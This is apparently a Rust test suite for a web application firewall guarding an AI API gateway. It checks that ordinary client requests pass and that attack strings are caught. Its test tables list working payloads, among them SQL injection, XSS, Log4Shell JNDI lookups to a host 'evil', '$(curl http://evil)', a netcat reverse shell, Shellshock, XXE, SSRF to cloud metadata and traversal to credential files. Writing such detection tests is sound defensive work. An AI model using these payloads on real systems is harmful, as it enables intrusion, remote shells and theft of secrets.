//! What the protection finds, what it leaves alone, and what exclusions and overrides do.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests may panic")]

use super::super::exclusion::Selector;
use super::super::finding::{FINDINGS_MAX, THRESHOLD};
use super::*;
use crate::policy::screen::view;
use http::{HeaderMap, HeaderName, HeaderValue};
use proptest::prelude::{ProptestConfig, any, prop, proptest};

/// A request as tests write it.
struct Request {
    method: &'static str,
    target: Vec<u8>,
    headers: HeaderMap,
}

impl Request {
    fn new(target: impl AsRef<[u8]>) -> Self {
        let mut headers = HeaderMap::new();
        for (name, value) in HONEST {
            headers.append(HeaderName::from_static(name), HeaderValue::from_static(value));
        }
        Self { method: "POST", target: target.as_ref().to_vec(), headers }
    }

    fn header(mut self, name: &str, value: impl AsRef<[u8]>) -> Self {
        let name = HeaderName::from_bytes(name.as_bytes()).unwrap();
        self.headers.insert(name, HeaderValue::from_bytes(value.as_ref()).unwrap());
        self
    }

    fn judged(&self, builtin: &Builtin) -> Findings {
        let view = View {
            method: self.method,
            target: &self.target,
            host: "ai.example.com",
            tls: true,
            headers: &self.headers,
            socket: None,
            client: None,
            place: view::Place::default(),
            socket_place: view::Place::default(),
            body: None,
        };
        let mut findings = Findings::default();
        builtin.judge(&view, &mut findings);
        findings
    }
}

/// What the Python SDK and a proxy in front of us send.
const HONEST: [(&str, &str); 18] = [
    ("host", "ai.example.com"),
    ("user-agent", "AsyncOpenAI/Python 1.99.1"),
    ("accept", "application/json"),
    ("accept-encoding", "gzip, deflate, br, zstd"),
    ("content-type", "application/json"),
    ("content-length", "4096"),
    ("connection", "keep-alive"),
    ("authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.' or 1=1 --.<script>"),
    ("api-key", "../../../etc/passwd' union select 1 --"),
    ("x-stainless-lang", "python"),
    ("x-stainless-package-version", "1.99.1"),
    ("x-stainless-os", "Linux"),
    ("x-stainless-runtime", "CPython"),
    ("x-stainless-async", "async:asyncio"),
    ("x-forwarded-for", "203.0.113.9, 10.0.0.4"),
    ("x-forwarded-proto", "https"),
    ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("cookie", "session=eyJhbGciOiJIUzI1NiJ9.e30.Et9HFtf9R3GEMA0IICOfFMVXY7kkTX1wr4qCyhIf58U; theme=dark"),
];

const CHAT: &str = "/openai/deployments/gpt-4.1-mini/chat/completions?api-version=2024-10-21";

fn library() -> Library {
    Library::new().unwrap()
}

fn protection() -> Builtin {
    Builtin::new(&library(), Mode::Prevent, &[], Vec::new())
}

fn ids(findings: &Findings) -> Vec<&str> {
    findings.kept().iter().map(|finding| &*finding.rule).collect()
}

#[test]
fn honest_requests_pass() {
    let builtin = protection();
    let mut requests: Vec<Request> = HONEST_TARGETS.iter().map(Request::new).collect();
    requests.extend(HONEST_AGENTS.iter().map(|agent| Request::new(CHAT).header("user-agent", agent)));
    requests.extend(HONEST_COOKIES.iter().map(|cookie| Request::new(CHAT).header("cookie", cookie)));
    requests.extend(
        ["https://app.example.com/chat?q=what+is+sql&lang=en", "http://localhost:3000/"]
            .iter()
            .map(|referer| Request::new("/v1/models").header("referer", referer)),
    );
    for request in requests {
        let findings = request.judged(&builtin);
        let target = String::from_utf8_lossy(&request.target).into_owned();
        assert!(findings.score() < THRESHOLD, "{target} {:?} {:?}", request.headers, findings.kept());
    }
}

const HONEST_TARGETS: &[&str] = &[
    CHAT,
    "/openai/v1/chat/completions",
    "/openai/v1/responses/resp_68f0a1b2c3d4e5f6?include[]=message.output_text.logprobs&stream=true",
    "/openai/v1/files?purpose=assistants&limit=20&order=desc&after=file-AbC123",
    "/openai/v1/models/gpt-4o%3Aft-acme%3A2024",
    "/openai/realtime?api-version=2024-10-01-preview&deployment=gpt-4o-realtime",
    "/v1/vector_stores/vs_1/files?filter=completed",
    "/openai/deployments/mein%20modell/embeddings?api-version=2024-02-01",
    "/openai/deployments/%E6%A8%A1%E5%9E%8B/chat/completions",
    "/search?q=caf%C3%A9+au+lait&lang=fr",
    "/search?q=it%27s+a+nice+day",
    "/search?q=rock+%26+roll",
    "/search?q=100%25+sure",
    "/items?$filter=price%20lt%2010&$top=5&$orderby=name%20desc",
    "/callback?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb%3Fstate%3Dabc&code=4/0AX4XfWh",
    "/openai/v1/evals/e_1/runs?status=completed&order=asc",
];

const HONEST_AGENTS: &[&str] = &[
    "curl/8.5.0",
    "python-httpx/0.27.2",
    "OpenAI/JS 4.68.1",
    "OpenAI/Go 1.12.0",
    "axios/1.7.7",
    "Go-http-client/2.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "azsdk-python-ai-inference/1.0.0b9 Python/3.12.3 (Linux-6.8.0-x86_64-with-glibc2.39)",
    "azsdk-net-AI.OpenAI/2.1.0 (.NET 8.0.10; Ubuntu 22.04.5 LTS)",
    "LangChain/0.3 (+https://python.langchain.com)",
    "PostmanRuntime/7.42.0",
    "semantic-kernel/1.24 dotnet",
    "Microsoft-Azure-Application-LB/AGIC",
    "kube-probe/1.30",
];

const HONEST_COOKIES: &[&str] = &[
    "a=1; b=2",
    "ARRAffinity=4f5e6d7c8b9a; ARRAffinitySameSite=4f5e6d7c8b9a",
    "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000",
    "consent=%7B%22necessary%22%3Atrue%2C%22ads%22%3Afalse%7D",
    "lang=en-US; tz=Europe%2FStockholm; cart=1%2C2%2C3",
];

#[test]
fn attacks_on_the_path_are_found() {
    let builtin = protection();
    for (target, rule) in [
        ("/.env", "TG-1102"),
        ("/api/.env.production", "TG-1102"),
        ("/%2eenv", "TG-1102"),
        ("/.git/config", "TG-1101"),
        ("/.GIT/HEAD", "TG-1101"),
        ("/%2egit%2fconfig", "TG-1101"),
        ("/x/.svn/entries", "TG-1101"),
        ("/.aws/credentials", "TG-1102"),
        ("/home/.ssh/id_rsa", "TG-1102"),
        ("/backup.sql", "TG-1103"),
        ("/site.tar.gz", "TG-1103"),
        ("/index.php~", "TG-1103"),
        ("/.claude/settings.json", "TG-1104"),
        ("/.cursor/mcp.json", "TG-1104"),
        ("/CLAUDE.md", "TG-1104"),
        ("/docker-compose.yml", "TG-1105"),
        ("/wp-login.php", "TG-1202"),
        ("/cgi-bin/luci", "TG-1202"),
        ("/actuator/env", "TG-1202"),
        ("/shell.aspx", "TG-1203"),
        ("/a/../../b", "TG-1301"),
        ("/a/%2e%2e/%2e%2e/b", "TG-1301"),
        ("/a/..%2f..%2fb", "TG-1301"),
        ("/a/%252e%252e%252fb", "TG-1005"),
        ("/a/..;/manager", "TG-1301"),
        ("/a/..\\..\\b", "TG-1006"),
        ("/a/%c0%ae%c0%ae/b", "TG-1004"),
        ("/a/%u002e%u002e/b", "TG-1007"),
        ("/a%00.json", "TG-1003"),
        ("/static/../../../etc/passwd", "TG-1302"),
        ("/$%7Bjndi:ldap://x/a%7D", "TG-1603"),
        ("/%3Cscript%3Ealert(1)%3C/script%3E", "TG-1502"),
    ] {
        let findings = Request::new(target).judged(&builtin);
        assert!(ids(&findings).contains(&rule), "{target} {:?}", findings.kept());
        assert!(findings.score() >= 4, "{target}");
    }
}

#[test]
fn attacks_in_query_cookies_and_headers_are_found() {
    let builtin = protection();
    for (value, rule) in VALUES {
        let query = Request::new(format!("/v1/models?x={}", escaped(value)));
        let findings = query.judged(&builtin);
        assert!(ids(&findings).contains(rule), "query {value} {:?}", findings.kept());
        assert_eq!(&*findings.kept()[0].variable, "QueryArgument:x");
        let twice = Request::new(format!("/v1/models?x={}", escaped(&escaped(value)))).judged(&builtin);
        assert!(ids(&twice).contains(rule), "twice {value} {:?}", twice.kept());
        if *rule != "TG-1703" {
            let findings = Request::new(CHAT).header("cookie", format!("x={}", escaped(value))).judged(&builtin);
            assert!(ids(&findings).contains(rule), "cookie {value} {:?}", findings.kept());
        }
    }
    for (name, value, rule) in [
        ("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)", "TG-1201"),
        (
            "user-agent",
            "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
            "TG-1201",
        ),
        ("user-agent", "() { :; }; /bin/bash -c 'id'", "TG-1602"),
        ("user-agent", "${jndi:ldap://evil/a}", "TG-1603"),
        ("x-api-version", "${${lower:j}ndi:${lower:l}dap://evil/a}", "TG-1603"),
        ("x-forwarded-host", "169.254.169.254", "TG-1701"),
        ("referer", "https://x/?a=<script>alert(1)</script>", "TG-1502"),
        ("user-agent", "' or 1=1 --", "TG-1401"),
        ("x-file", "../../../etc/passwd", "TG-1302"),
        ("x-next", "a%0d%0aSet-Cookie: a=b", "TG-1002"),
        ("acunetix-product", "WVS", "TG-1204"),
    ] {
        let findings = Request::new(CHAT).header(name, value).judged(&builtin);
        assert!(ids(&findings).contains(&rule), "{name}: {value} {:?}", findings.kept());
        assert!(findings.score() >= 5, "{name}: {value}");
    }
    for (target, rule) in [
        ("/v1/models?a%0d%0ab=1", "TG-1001"),
        ("/v1/models?user[$ne]=x", "TG-1403"),
        ("/v1/models?__proto__[admin]=1", "TG-1607"),
        ("/v1/models?a=%zz", "TG-1008"),
    ] {
        assert!(ids(&Request::new(target).judged(&builtin)).contains(&rule), "{target}");
    }
    let debug = Request { method: "DEBUG", ..Request::new("/") };
    assert_eq!(ids(&debug.judged(&builtin)), ["TG-1205"]);
    let many = Request::new(format!("/x?{}", "a=1&".repeat(1030)));
    assert_eq!(ids(&many.judged(&builtin)), ["TG-1010"]);
}

const VALUES: &[(&str, &str)] = &[
    ("1' or '1'='1", "TG-1401"),
    ("1 union select username, password from users", "TG-1402"),
    ("1; drop table users", "TG-1402"),
    ("1 and sleep(5)", "TG-1402"),
    ("1; waitfor delay '0:0:5'", "TG-1402"),
    ("{\"$gt\":\"\"}", "TG-1403"),
    ("*)(uid=*))(|(uid=*", "TG-1404"),
    ("<script>alert(1)</script>", "TG-1502"),
    ("\"><img src=x onerror=alert(1)>", "TG-1501"),
    ("javascript:alert(1)", "TG-1502"),
    ("; cat /etc/passwd", "TG-1601"),
    ("$(curl http://evil)", "TG-1601"),
    ("`id`", "TG-1601"),
    ("| nc -e /bin/sh 10.0.0.1 4444", "TG-1601"),
    ("() { :; }; echo x", "TG-1602"),
    ("${jndi:ldap://evil/a}", "TG-1603"),
    ("{{7*7}}", "TG-1604"),
    ("<%= system('id') %>", "TG-1604"),
    ("php://filter/convert.base64-encode/resource=index.php", "TG-1605"),
    ("class.module.classLoader.resources", "TG-1606"),
    ("__proto__", "TG-1607"),
    ("cmd.exe /c dir", "TG-1608"),
    ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "TG-1609"),
    ("http://169.254.169.254/latest/meta-data/", "TG-1701"),
    ("gopher://127.0.0.1:6379/_FLUSHALL", "TG-1702"),
    ("http://localhost:8080/admin", "TG-1703"),
    ("../../../../etc/passwd", "TG-1301"),
    ("..\\..\\windows\\win.ini", "TG-1301"),
    ("/etc/passwd", "TG-1302"),
    ("x\r\nSet-Cookie: a=b", "TG-1002"),
    ("a\0b", "TG-1003"),
];

fn escaped(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { (byte as char).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// The harmless prompts, and whether each is refused in a query.
fn prompts() -> impl Iterator<Item = (bool, &'static str)> {
    const TEXT: &str = include_str!("../../../../../tests/corpus/prompts.txt");
    TEXT.split("\n%%").skip(1).filter_map(|entry| entry.split_once('\n')).map(|(mark, text)| (mark == " judged", text))
}

#[test]
fn the_text_of_a_prompt_is_judged_in_a_query() {
    let builtin = protection();
    let mut missed = Vec::new();
    for (judged, prompt) in prompts() {
        let findings = Request::new(format!("/v1/models?q={}", escaped(prompt))).judged(&builtin);
        if judged && findings.score() < THRESHOLD {
            missed.push((prompt, findings));
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(prompts().count() >= 60);
}

#[test]
fn credentials_are_never_judged_or_shown() {
    let builtin = protection();
    assert!(Request::new(CHAT).judged(&builtin).is_empty(), "the honest headers hold attacks as credentials");
    let request = Request::new("/v1/models?api-key=<script>hunter2</script>&token=' or 1=1 -- hunter2");
    for finding in request.judged(&builtin).kept() {
        assert_eq!(finding.data, "***");
    }
}

#[test]
fn exclusions_spare_values_and_nothing_else() {
    let library = library();
    let rules = |name: &str| library.named(name).unwrap();
    let exclusion = |place, selector, name| Exclusion { place, selector, rules: rules(name) };
    let q = || Selector::Equals("q".to_owned());
    let with = |exclusions| Builtin::new(&library, Mode::Prevent, &[], exclusions);
    let attack = Request::new("/v1/models?q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert!(!attack.judged(&with(vec![exclusion(Place::Cookie, q(), "all")])).is_empty());
    assert!(attack.judged(&with(vec![exclusion(Place::Query, q(), "all")])).is_empty());
    assert!(attack.judged(&with(vec![exclusion(Place::Query, q(), "script")])).is_empty());
    let one = attack.judged(&with(vec![exclusion(Place::Query, q(), "TG-1501")]));
    assert_eq!(ids(&one), ["TG-1502"]);
    let builtin = with(vec![
        exclusion(Place::Query, q(), "all"),
        exclusion(Place::Header, Selector::StartsWith("X-App".to_owned()), "all"),
        exclusion(Place::Cookie, Selector::EndsWith("_blob".to_owned()), "sql"),
    ]);
    let other = Request::new("/v1/models?q=1&Q=%3Cscript%3Ealert(1)%3C/script%3E");
    assert!(!other.judged(&builtin).is_empty());
    assert!(Request::new(CHAT).header("x-app-note", "../../etc/passwd").judged(&builtin).is_empty());
    assert!(Request::new(CHAT).header("cookie", "my_blob=' or 1=1 --").judged(&builtin).is_empty());
    assert!(!Request::new(CHAT).header("cookie", "my_blob=../../etc/passwd").judged(&builtin).is_empty());
}

#[test]
fn overrides_change_mode_and_score() {
    let library = library();
    let attack = Request::new("/.env?x=%zz");
    let judged = |mode, overrides: &[Override]| {
        let findings = attack.judged(&Builtin::new(&library, mode, overrides, Vec::new()));
        (findings.score(), findings.observed(), findings.kept().len())
    };
    let change = |name, mode, score| Override { rules: library.named(name).unwrap(), mode, score };
    assert_eq!(judged(Mode::Prevent, &[]), (8, 8, 2));
    assert_eq!(judged(Mode::Detect, &[]), (0, 8, 2));
    assert_eq!(judged(Mode::Off, &[]), (0, 0, 0));
    assert_eq!(judged(Mode::Prevent, &[change("TG-1102", Some(Mode::Off), None)]), (3, 3, 1));
    assert_eq!(judged(Mode::Prevent, &[change("files", Some(Mode::Detect), None)]), (3, 8, 2));
    assert_eq!(judged(Mode::Prevent, &[change("all", None, Some(1))]), (2, 2, 2));
    let last = [change("all", Some(Mode::Off), None), change("files", Some(Mode::Prevent), Some(4))];
    assert_eq!(judged(Mode::Prevent, &last), (4, 4, 1));
    assert_eq!(judged(Mode::Detect, &last), (0, 4, 1));
    assert_eq!(library.named("nothing"), None);
    assert!(library.names().all(|name| library.named(name).is_some()));
}

#[test]
fn cost_is_linear_in_what_is_sent() {
    let builtin = protection();
    for piece in ["../", "${", "<", "'", "/*", "%25", ";", "a=", "on", "((", "{{", "\\", "--", "union ", "a@"] {
        let request = Request::new(format!("/x?q={}", piece.repeat(64 * 1024 / piece.len())));
        let findings = request.judged(&builtin);
        assert!(findings.kept().len() <= FINDINGS_MAX);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]
    #[test]
    fn any_request_is_survived(
        target in prop::collection::vec(any::<u8>(), 0..200),
        value in prop::collection::vec(32_u8..=126, 0..100),
    ) {
        let builtin = Builtin::new(&library_once(), Mode::Prevent, &[], Vec::new());
        let request = Request::new(&target).header("cookie", &value).header("user-agent", &value).header("x-any", &value);
        let findings = request.judged(&builtin);
        assert!(findings.kept().iter().all(|finding| finding.data.len() <= 128));
    }
}

fn library_once() -> Library {
    static ONCE: std::sync::LazyLock<Library> = std::sync::LazyLock::new(|| Library::new().unwrap());
    ONCE.clone()
}
